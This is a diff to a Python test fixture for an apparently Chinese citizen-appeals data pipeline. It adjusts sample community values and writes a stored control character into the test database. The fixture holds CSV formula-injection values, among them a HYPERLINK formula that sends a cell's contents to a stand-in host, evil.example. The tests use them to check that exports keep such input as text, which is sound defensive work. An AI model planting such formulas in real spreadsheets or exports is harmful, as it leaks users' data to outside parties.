@@ -56,8 +56,11 @@ SECRETS = (NAMES + PHONES + IDS + FORMS + ELSEWHERE
 
 APPEALS_HEADER = ("工单编号,来源渠道,诉求类别,受理时间,街道,小区编码,首次响应时间,办结时间,反馈时间,结案时间,群众评价,"
                   "来电人,联系电话,诉求内容,身份证号,家庭住址,社区")
-# 社区 of each row: a phone, the caller's own name, a control character that once broke the PDF.
-COMMUNITIES = ["东城社区 13922223333", "钟楼社区", "@SUM(A1)诸葛丽娜所在社区", "东城\x0b社区", "0535-6661234", ""]
+# 社区 of each row: a phone, a formula and the caller's own name, another phone.
+COMMUNITIES = ["东城社区 13922223333", "钟楼社区", "@SUM(A1)诸葛丽娜所在社区", "东城社区", "0535-6661234", ""]
+# Stored before the loader refused control characters (the db fixture writes it in): it once broke
+# the street's PDF.
+STORED_CONTROL = "东城\x0b社区"
 # What a visitor types as an account name, and what the open appeal B3 carries (category, 社区):
 # every CSV download must hold them as text, never as a formula.
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
@@ -129,6 +132,8 @@ def db(extracts, tmp_path_factory) -> Path:
             assert report.inserted == 4 and report.rejected == 2, report.summary_zh()
         if kind == "complaints":
             assert report.rejected == 1, report.summary_zh()
+    with duckdb.connect(str(path)) as con:
+        con.execute("UPDATE appeals SET community = ? WHERE appeal_id = 'B4'", [STORED_CONTROL])
     return path
 
 
